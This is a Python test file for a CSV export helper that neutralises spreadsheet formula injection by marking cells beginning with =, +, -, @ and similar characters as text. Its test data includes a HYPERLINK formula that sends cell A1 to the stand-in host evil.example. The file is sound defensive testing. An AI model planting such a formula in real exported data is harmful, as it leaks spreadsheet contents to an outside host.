"""A CSV file opens in a spreadsheet, and nothing in it runs there."""

from __future__ import annotations

import ast
import csv
import io
from pathlib import Path

import pytest

from app.journal.csv_table import STARTS, cell, csv_text

ROOT = Path(__file__).parents[2]
CALL = 'HYPERLINK("http://evil.example?"&A1)'


@pytest.mark.parametrize("start", STARTS)
@pytest.mark.parametrize(
    "before",
    ["", " ", "\t", "\r\n", "\N{NO-BREAK SPACE}", "\N{IDEOGRAPHIC SPACE}", '"', "'", " \"'", "\N{BOM}", "\x00"],
)
def test_formula_is_marked_as_text(start: str, before: str) -> None:
    marked = str(cell(f"{before}{start}{CALL}"))
    assert marked[0] == "'" and marked.endswith(f"{start}{CALL}")
    assert marked.count("'") - before.count("'") in (1, 2)  # a tab or a line end before it is the end of a cell as well


@pytest.mark.parametrize("text", ["\tx", "\rx", "\nx", "-1+1", "+1-1", "=", "-", "@sum(a1)", "--5", "1-\n=1", "-5 deg"])
def test_beginnings_that_are_not_plain_text_are_marked(text: str) -> None:
    assert text not in (cell(text), str(cell(text)).lstrip())
    assert str(cell(text)).replace("'", "") == text


@pytest.mark.parametrize("text", [f"a;={CALL}", f"a\t={CALL}", f"a\n={CALL}", f"a\r\n ={CALL}", f'a; "={CALL}'])
def test_formula_after_a_separator_is_marked_as_text(text: str) -> None:
    """A spreadsheet that separates cells by `;` splits what this file has as one."""
    for part in str(cell(text)).replace("\r", "\n").replace("\t", "\n").replace(";", "\n").split("\n"):
        assert not part.strip(" \"'").startswith("=") or part.startswith("'"), part


@pytest.mark.parametrize(
    "value", [-5, -5.25, 0, 7, 1e-9, True, False, None, "-5", "+5", "-5.25", "-.5", "1e5", "-1E-5"]
)
def test_numbers_stay_numbers(value: object) -> None:
    assert cell(value) is value


@pytest.mark.parametrize(
    "text", ["", "looking away", "3 in 5 minutes", "a-b", "2026-11-30T06:00:00+00:00", "it's", "x = 1", "é", "\N{BUS}"]
)
def test_plain_text_is_not_changed(text: str) -> None:
    assert cell(text) == text


def test_csv_reads_back_the_same_apart_from_marks() -> None:
    rows: tuple[dict[str, object], ...] = (
        {"id": -3, "detail": f"={CALL}", "more": 'a "b", c'},
        {"id": 4, "detail": None, "more": "two\nlines"},
    )
    read = list(csv.reader(io.StringIO(csv_text(("id", "detail", "more"), rows), newline="")))
    assert read == [["id", "detail", "more"], ["-3", f"'={CALL}", 'a "b", c'], ["4", "", "two\nlines"]]


def test_only_csv_table_imports_csv() -> None:
    importing = set()
    for path in (file for room in ("admin", "app", "config") for file in (ROOT / room).rglob("*.py")):
        for node in ast.walk(ast.parse(path.read_text())):
            names = [each.name for each in node.names] if isinstance(node, ast.Import) else []
            names += [str(node.module)] if isinstance(node, ast.ImportFrom) else []
            importing |= {str(path.relative_to(ROOT))} if "csv" in names else set()
    assert importing == {"app/journal/csv_table.py"}
